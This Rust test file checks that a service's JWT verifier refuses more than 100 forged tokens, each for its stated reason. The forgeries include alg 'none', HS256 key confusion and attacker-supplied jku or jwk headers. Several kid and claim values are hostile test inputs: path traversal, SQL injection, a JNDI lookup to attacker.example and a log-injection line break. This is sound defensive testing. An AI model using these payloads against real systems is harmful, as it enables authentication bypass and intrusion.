//! The table of forged tokens: each is refused, and for its own reason.

use jsonwebtoken::Algorithm;
use serde_json::{Value, json};
use traffic_manager::auth::jwt::{Now, Refused};

use crate::{
    issuer::{AUDIENCE, Issuer, NAME},
    signer::{Signer, base64, claims, sign_with_secret, unsigned},
};

/// A description, the token, and the expected reason of the refusal (`None`: the token is
/// accepted).
type Row = (String, String, Option<Refused>);

fn row(what: &str, token: impl Into<String>, refused: Refused) -> Row {
    (what.to_owned(), token.into(), Some(refused))
}

fn accepted(what: &str, token: impl Into<String>) -> Row {
    (what.to_owned(), token.into(), None)
}

/// The signer's own header with these members changed.
fn header(signer: &Signer, changes: Value) -> Value {
    let mut header = signer.header();
    let Value::Object(changes) = changes else {
        panic!("changes are an object")
    };
    for (name, value) in changes {
        header[name] = value;
    }
    header
}

fn algorithms(now: Now, rsa: &Signer, ec: &Signer) -> Vec<Row> {
    let good = claims(now, json!({}));
    let mut rows: Vec<Row> = ["none", "None", "NONE", "nOnE", ""]
        .iter()
        .map(|alg| {
            let text = unsigned(
                &header(rsa, json!({ "alg": alg })).to_string(),
                &good.to_string(),
            );
            row(
                &format!("alg {alg:?}, without a signature"),
                format!("{text}."),
                Refused::WrongAlgorithm,
            )
        })
        .collect();
    let symmetric = header(rsa, json!({ "alg": "HS256" }));
    for (what, secret) in [
        ("PEM", rsa.public_pem.as_bytes()),
        ("DER", rsa.public_der.as_slice()),
        (
            "modulus",
            rsa.jwk["n"].as_str().expect("a modulus").as_bytes(),
        ),
    ] {
        let token = sign_with_secret(secret, &symmetric, &good);
        rows.push(row(
            &format!("HS256 with the public key as the secret ({what})"),
            token,
            Refused::WrongAlgorithm,
        ));
    }
    let pss = rsa.sign_as(
        Algorithm::PS256,
        &header(rsa, json!({ "alg": "PS256" })),
        &good,
    );
    let longer = rsa.sign_as(
        Algorithm::RS512,
        &header(rsa, json!({ "alg": "RS512" })),
        &good,
    );
    rows.extend([
        row("PS256 with a key for RS256", pss, Refused::WrongAlgorithm),
        row(
            "RS512 with a key for RS256",
            longer,
            Refused::WrongAlgorithm,
        ),
        row(
            "ES256 by the name of an RSA key",
            ec.with_header(&header(ec, json!({ "kid": "rsa-1" })), &good),
            Refused::WrongAlgorithm,
        ),
        row(
            "RS256 by the name of an EC key",
            rsa.with_header(&header(rsa, json!({ "kid": "ec-1" })), &good),
            Refused::WrongAlgorithm,
        ),
        row(
            "alg in small letters",
            rsa.with_header(&header(rsa, json!({ "alg": "rs256" })), &good),
            Refused::WrongAlgorithm,
        ),
        row(
            "alg is a number",
            rsa.with_header(&header(rsa, json!({ "alg": 256 })), &good),
            Refused::Malformed,
        ),
        row(
            "signed as PS256, said to be RS256",
            rsa.sign_as(Algorithm::PS256, &rsa.header(), &good),
            Refused::BadSignature,
        ),
    ]);
    rows
}

fn keys(now: Now, rsa: &Signer) -> Vec<Row> {
    let good = claims(now, json!({}));
    let stranger = Signer::stranger();
    let mut rows: Vec<Row> = [
        "rsa-2",
        "RSA-1",
        "rsa-1 ",
        "",
        "../../../../dev/null",
        "/proc/self/environ",
        "rsa-1\u{0}",
        "rsa-1' OR '1'='1",
        "x' UNION SELECT 'key' --",
        "${jndi:ldap://attacker.example/a}",
        "http://attacker.example/key",
        &"k".repeat(4000),
    ]
    .iter()
    .map(|kid| {
        let what: String = format!("kid {kid:?}").chars().take(60).collect();
        row(
            &what,
            rsa.with_header(&header(rsa, json!({ "kid": kid })), &good),
            Refused::UnknownKey,
        )
    })
    .collect();
    let mut own = stranger.jwk.clone();
    own["kid"] = json!("rsa-1");
    let brought = |changes: Value| stranger.with_header(&header(stranger, changes), &good);
    rows.extend([
        row(
            "a stranger's signature",
            stranger.token(&good),
            Refused::BadSignature,
        ),
        row(
            "jwk in the header",
            brought(json!({ "jwk": own })),
            Refused::BadSignature,
        ),
        row(
            "jku in the header",
            brought(json!({ "jku": "https://attacker.example/jwks" })),
            Refused::BadSignature,
        ),
        row(
            "x5u in the header",
            brought(json!({ "x5u": "https://attacker.example/cert" })),
            Refused::BadSignature,
        ),
        row(
            "x5c in the header",
            brought(json!({ "x5c": [base64(&stranger.public_der)] })),
            Refused::BadSignature,
        ),
        row(
            "kid is a list",
            rsa.with_header(&header(rsa, json!({ "kid": ["rsa-1"] })), &good),
            Refused::Malformed,
        ),
        row(
            "no kid, and there are several keys",
            rsa.with_header(&json!({ "alg": "RS256" }), &good),
            Refused::UnknownKey,
        ),
        accepted(
            "jku in the header of a good token",
            rsa.with_header(&header(rsa, json!({ "jku": "https://x.example" })), &good),
        ),
    ]);
    rows
}

fn shapes(now: Now, rsa: &Signer, ec: &Signer) -> Vec<Row> {
    let good = claims(now, json!({}));
    let token = rsa.token(&good);
    let parts: Vec<&str> = token.split('.').collect();
    let with = |changes: Value| rsa.with_header(&header(rsa, changes), &good);
    let of_ec = unsigned(&ec.header().to_string(), &good.to_string());
    let doubled_alg = r#"{"alg":"none","alg":"RS256","kid":"rsa-1"}"#;
    let doubled_typ = r#"{"alg":"RS256","kid":"rsa-1","x":1,"x":2}"#;
    let text = good.to_string();
    let doubled = |member: &str| {
        rsa.sign(
            &rsa.header().to_string(),
            &format!("{},{member}}}", &text[..text.len() - 1]),
        )
    };
    let tampered = unsigned(
        &rsa.header().to_string(),
        &claims(now, json!({ "tenant": "globex" })).to_string(),
    );
    vec![
        row("empty", "", Refused::Malformed),
        row("two dots", "..", Refused::Malformed),
        row("one part", parts[0], Refused::Malformed),
        row(
            "two parts",
            format!("{}.{}", parts[0], parts[1]),
            Refused::Malformed,
        ),
        row(
            "four parts",
            format!("{token}.{}", parts[0]),
            Refused::Malformed,
        ),
        row(
            "five parts: encrypted",
            format!("{token}.{}.{}", parts[0], parts[0]),
            Refused::Encrypted,
        ),
        row(
            "a token in a token",
            rsa.sign(&header(rsa, json!({ "cty": "JWT" })).to_string(), &token),
            Refused::Malformed,
        ),
        row(
            "huge",
            format!("{token}{}", "A".repeat(8192)),
            Refused::TooLarge,
        ),
        row(
            "huge claims, well signed",
            rsa.token(&claims(now, json!({ "x": "y".repeat(8192) }))),
            Refused::TooLarge,
        ),
        row(
            "header is no base64",
            format!("{}.{}.{}", "%%%%", parts[1], parts[2]),
            Refused::Malformed,
        ),
        row(
            "header is no UTF-8",
            format!(
                "{}.{}.{}",
                base64(b"{\"alg\":\"\xff\xfe\"}"),
                parts[1],
                parts[2]
            ),
            Refused::Malformed,
        ),
        row(
            "header with base64 padding",
            format!("{}=.{}.{}", parts[0], parts[1], parts[2]),
            Refused::Malformed,
        ),
        row(
            "header is a list",
            rsa.sign("[]", &text),
            Refused::Malformed,
        ),
        row(
            "claims are a list",
            rsa.sign(&rsa.header().to_string(), "[]"),
            Refused::Malformed,
        ),
        row(
            "claims are deep",
            rsa.sign(&rsa.header().to_string(), &"[".repeat(2000)),
            Refused::Malformed,
        ),
        row(
            "tampered claims",
            format!("{tampered}.{}", parts[2]),
            Refused::BadSignature,
        ),
        row(
            "truncated signature",
            &token[..token.len() - 10],
            Refused::BadSignature,
        ),
        row(
            "empty signature",
            format!("{}.{}.", parts[0], parts[1]),
            Refused::BadSignature,
        ),
        row(
            "signature is no base64",
            format!("{}.{}.%%%%", parts[0], parts[1]),
            Refused::Malformed,
        ),
        row(
            "ECDSA signature of zeros",
            format!("{of_ec}.{}", base64(&[0; 64])),
            Refused::BadSignature,
        ),
        row(
            "crit",
            with(json!({ "crit": ["exp"], "exp": 1 })),
            Refused::Critical,
        ),
        row(
            "an empty crit",
            with(json!({ "crit": [] })),
            Refused::Critical,
        ),
        row(
            "b64 false",
            with(json!({ "b64": false })),
            Refused::Critical,
        ),
        row(
            "typ of a logout token",
            with(json!({ "typ": "logout+jwt" })),
            Refused::WrongType,
        ),
        row(
            "typ of a proof of possession",
            with(json!({ "typ": "dpop+jwt" })),
            Refused::WrongType,
        ),
        row(
            "alg twice",
            rsa.sign(doubled_alg, &text),
            Refused::Malformed,
        ),
        row(
            "a header member twice",
            rsa.sign(doubled_typ, &text),
            Refused::Malformed,
        ),
        row("sub twice", doubled(r#""sub":"root""#), Refused::Malformed),
        row(
            "tenant twice",
            doubled(r#""tenant":"globex""#),
            Refused::Malformed,
        ),
        row(
            "roles twice, deep",
            doubled(r#""a":{"roles":["viewer"],"roles":["editor"]}"#),
            Refused::Malformed,
        ),
        accepted("typ of an access token", with(json!({ "typ": "at+jwt" }))),
        accepted("typ in small letters", with(json!({ "typ": "jwt" }))),
        accepted(
            "no typ",
            rsa.with_header(&json!({ "alg": "RS256", "kid": "rsa-1" }), &good),
        ),
    ]
}

fn times(now: Now, rsa: &Signer) -> Vec<Row> {
    let with = |changes: Value| rsa.token(&claims(now, changes));
    let at = |seconds: f64| json!(now.unix + seconds);
    vec![
        row(
            "expired a second past the leeway",
            with(json!({ "exp": at(-6.0), "iat": at(-60.0) })),
            Refused::Expired,
        ),
        row(
            "expires exactly at the leeway",
            with(json!({ "exp": at(-5.0), "iat": at(-60.0) })),
            Refused::Expired,
        ),
        accepted(
            "expired within the leeway",
            with(json!({ "exp": at(-4.0), "iat": at(-60.0) })),
        ),
        row(
            "nbf to come",
            with(json!({ "nbf": at(6.0) })),
            Refused::NotYetValid,
        ),
        accepted("nbf within the leeway", with(json!({ "nbf": at(4.0) }))),
        row(
            "iat to come",
            with(json!({ "iat": at(6.0) })),
            Refused::NotYetValid,
        ),
        row(
            "valid for a day and a second",
            with(json!({ "iat": at(0.0), "exp": at(86_401.0) })),
            Refused::TooLongLived,
        ),
        row(
            "the same without iat",
            with(json!({ "iat": null, "exp": at(86_401.0) })),
            Refused::TooLongLived,
        ),
        row(
            "long ago, for ever",
            with(json!({ "iat": 1, "exp": at(60.0) })),
            Refused::TooLongLived,
        ),
        accepted("without iat", with(json!({ "iat": null }))),
        row(
            "exp is a text",
            with(json!({ "exp": "9999999999" })),
            Refused::MissingClaim,
        ),
        row(
            "exp is negative",
            with(json!({ "exp": -1 })),
            Refused::MissingClaim,
        ),
        row(
            "exp beyond all numbers",
            with(json!({ "exp": 1e300 })),
            Refused::MissingClaim,
        ),
        row(
            "exp beyond exact numbers",
            with(json!({ "exp": 1e17 })),
            Refused::BadClaim,
        ),
        row(
            "nbf is a text",
            with(json!({ "nbf": "0" })),
            Refused::BadClaim,
        ),
        row(
            "iat is a list",
            with(json!({ "iat": [0] })),
            Refused::BadClaim,
        ),
    ]
}

fn identities(now: Now, rsa: &Signer) -> Vec<Row> {
    let with = |changes: Value| rsa.token(&claims(now, changes));
    vec![
        row(
            "no exp",
            with(json!({ "exp": null })),
            Refused::MissingClaim,
        ),
        row(
            "no iss",
            with(json!({ "iss": null })),
            Refused::MissingClaim,
        ),
        row(
            "no aud",
            with(json!({ "aud": null })),
            Refused::MissingClaim,
        ),
        row(
            "no sub",
            with(json!({ "sub": null })),
            Refused::MissingClaim,
        ),
        row(
            "another issuer",
            with(json!({ "iss": "https://attacker.example" })),
            Refused::WrongIssuer,
        ),
        row(
            "the issuer with a slash",
            with(json!({ "iss": format!("{NAME}/") })),
            Refused::WrongIssuer,
        ),
        row(
            "a list of issuers with ours",
            with(json!({ "iss": [NAME, "https://attacker.example"] })),
            Refused::WrongIssuer,
        ),
        row(
            "another audience",
            with(json!({ "aud": "billing" })),
            Refused::WrongAudience,
        ),
        row(
            "audiences without ours",
            with(json!({ "aud": ["billing", "traffic-manager-test"] })),
            Refused::WrongAudience,
        ),
        row(
            "an empty list of audiences",
            with(json!({ "aud": [] })),
            Refused::WrongAudience,
        ),
        accepted(
            "audiences with ours",
            with(json!({ "aud": ["billing", AUDIENCE] })),
        ),
        row(
            "an empty sub",
            with(json!({ "sub": "" })),
            Refused::BadClaim,
        ),
        row(
            "a huge sub",
            with(json!({ "sub": "s".repeat(256) })),
            Refused::BadClaim,
        ),
        row(
            "a sub with a line break",
            with(json!({ "sub": "alice\nlevel=info" })),
            Refused::BadClaim,
        ),
        row(
            "a sub with a NUL",
            with(json!({ "sub": "alice\u{0}" })),
            Refused::BadClaim,
        ),
        row(
            "sub is a number",
            with(json!({ "sub": 7 })),
            Refused::MissingClaim,
        ),
        accepted("a long sub", with(json!({ "sub": "ä".repeat(127) }))),
    ]
}

fn grants(now: Now, rsa: &Signer) -> Vec<Row> {
    let with = |changes: Value| rsa.token(&claims(now, changes));
    vec![
        row(
            "no roles",
            with(json!({ "roles": null })),
            Refused::NoGrant("no_role"),
        ),
        row(
            "unknown roles",
            with(json!({ "roles": ["root", "admin"] })),
            Refused::NoGrant("no_role"),
        ),
        row(
            "roles in capitals",
            with(json!({ "roles": ["PLATFORM_ADMIN"] })),
            Refused::NoGrant("no_role"),
        ),
        row(
            "roles are an object",
            with(json!({ "roles": { "editor": true } })),
            Refused::BadClaim,
        ),
        row(
            "a role is a number",
            with(json!({ "roles": ["editor", 1] })),
            Refused::BadClaim,
        ),
        row(
            "no tenant",
            with(json!({ "tenant": null })),
            Refused::NoGrant("tenant_required"),
        ),
        row(
            "an editor of all tenants",
            with(json!({ "tenant": "*" })),
            Refused::NoGrant("tenant_required"),
        ),
        row(
            "an auditor without a tenant",
            with(json!({ "tenant": null, "roles": ["auditor"] })),
            Refused::NoGrant("tenant_required"),
        ),
        row(
            "a platform_admin of a tenant",
            with(json!({ "roles": ["platform_admin"] })),
            Refused::NoGrant("not_of_a_tenant"),
        ),
        row(
            "tenant is no DNS label",
            with(json!({ "tenant": "acme/../globex" })),
            Refused::NoGrant("bad_tenant"),
        ),
        row(
            "tenant in capitals",
            with(json!({ "tenant": "ACME" })),
            Refused::NoGrant("bad_tenant"),
        ),
        row(
            "an empty tenant",
            with(json!({ "tenant": "" })),
            Refused::NoGrant("bad_tenant"),
        ),
        row(
            "a list of tenants",
            with(json!({ "tenant": ["acme", "globex"] })),
            Refused::BadClaim,
        ),
        row(
            "narrowed to no service",
            with(json!({ "services": [] })),
            Refused::BadClaim,
        ),
        row(
            "narrowed to an empty text",
            with(json!({ "envs": " " })),
            Refused::BadClaim,
        ),
        row(
            "services are a number",
            with(json!({ "services": 1 })),
            Refused::BadClaim,
        ),
        row(
            "an env that is no label",
            with(json!({ "envs": ["prod", "*"] })),
            Refused::NoGrant("not_a_dns_label"),
        ),
        row(
            "a narrowed viewer",
            with(json!({ "roles": ["viewer"], "envs": ["prod"] })),
            Refused::NoGrant("not_narrowed"),
        ),
    ]
}

#[tokio::test]
async fn every_forged_token_is_refused_for_its_reason() {
    let (rsa, ec, ed) = (Signer::rsa(), Signer::ec("ec-1"), Signer::ed("ed-1"));
    let issuer = Issuer::with(&[rsa, &ec, &ed]);
    let now = Now::read();
    let verifier = issuer.ready(&[], now).await;
    let good = claims(now, json!({}));
    let mut rows: Vec<Row> = [rsa, &ec, &ed]
        .iter()
        .map(|signer| accepted(&signer.kid, signer.token(&good)))
        .collect();
    rows.extend(algorithms(now, rsa, &ec));
    rows.extend(keys(now, rsa));
    rows.extend(shapes(now, rsa, &ec));
    rows.extend(times(now, rsa));
    rows.extend(identities(now, rsa));
    rows.extend(grants(now, rsa));
    let mut faults = Vec::new();
    for (what, token, expected) in &rows {
        let refused = verifier.verify_at(token, now).await.err();
        if refused != *expected {
            faults.push(format!("{what}: {refused:?}, not {expected:?}"));
        }
        if expected.is_some() && verifier.verified_at(token, now).is_some() {
            faults.push(format!("{what}: remembered as good"));
        }
    }
    assert!(
        faults.is_empty(),
        "{} of {} rows:\n{}",
        faults.len(),
        rows.len(),
        faults.join("\n")
    );
    let forged = rows
        .iter()
        .filter(|(_, _, expected)| expected.is_some())
        .count();
    assert!(forged >= 100, "{forged} forged tokens");
    assert_eq!(
        issuer.asked(),
        2,
        "one fetch at the start, one for all the unknown names"
    );
}
